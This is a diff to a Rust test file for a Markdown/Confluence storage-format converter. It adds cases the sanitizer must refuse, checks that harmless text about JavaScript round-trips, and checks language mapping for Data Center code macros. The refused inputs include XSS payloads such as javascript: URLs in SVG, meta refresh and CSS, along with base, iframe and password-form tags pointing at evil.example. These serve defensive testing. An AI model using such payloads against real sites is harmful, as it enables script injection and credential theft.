@@ -193,6 +193,14 @@ fn a_forged_carrier_is_refused() {
         "<svg xlink:href=\"vbscript:x\" />",
         "<ac:image><ri:url ri:value=\"javascript:alert(1)\" /></ac:image>",
         "<iframe srcdoc=\"&lt;b>\" />",
+        "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
+        "<svg><set to=\"javascript:alert(1)\" /></svg>",
+        "<meta http-equiv=\"refresh\" content=\"0;url=java&#9;script:alert(1)\" />",
+        "<p style=\"background: url(javascript:alert(1))\">x</p>",
+        "<a href=\"data:text/html,x\">x</a>",
+        "<base href=\"https://evil.example/\" />",
+        "<iframe src=\"https://evil.example/\" />",
+        "<form action=\"https://evil.example/\"><input name=\"password\" /></form>",
         "</p><p>",
         "<p>",
         "<p>&unknown;</p>",
@@ -229,10 +237,36 @@ fn a_forged_carrier_is_refused() {
 #[test]
 fn text_about_scripts_comes_back() {
     for source in [
+        "<p><ac:link><ri:page ri:content-title=\"JavaScript: basics\" /><ac:link-body><em>x</em></ac:link-body></ac:link></p>",
+        "<img alt=\"javascript: an introduction\" src=\"data:image/png;base64,eA==\" />",
         "<ac:unknown ri:content-title=\"JavaScript: basics\" ac:on=\"x\" />",
         "<ac:structured-macro ac:name=\"html-sample\"><ac:plain-text-body><![CDATA[<script>x</script>]]></ac:plain-text-body></ac:structured-macro>",
     ] {
         assert_eq!(write(&read(source)), source);
+    }
+}
+
+/// Data Center's code macro shows an error in place of code in a language that it does not know.
+#[test]
+fn data_center_gets_languages_that_it_knows() {
+    let options = WriteOptions {
+        data_center_languages: true,
+        ..WriteOptions::default()
+    };
+    for (fence, named) in [
+        ("json", "js"),
+        ("YAML", "yml"),
+        ("go", "text"),
+        ("python", "py"),
+        ("sql", "sql"),
+        ("our-own", "our-own"),
+    ] {
+        let markdown = format!("> ```{fence}\n> x\n> ```");
+        let written = from_markdown(Format::Storage, &markdown, &options).unwrap();
+        let parameter = format!("<ac:parameter ac:name=\"language\">{named}</ac:parameter>");
+        assert!(written.contains(&parameter), "{fence}: {written}");
+        let cloud = format!("<ac:parameter ac:name=\"language\">{fence}</ac:parameter>");
+        assert!(write(&markdown).contains(&cloud), "{fence}");
     }
 }
 
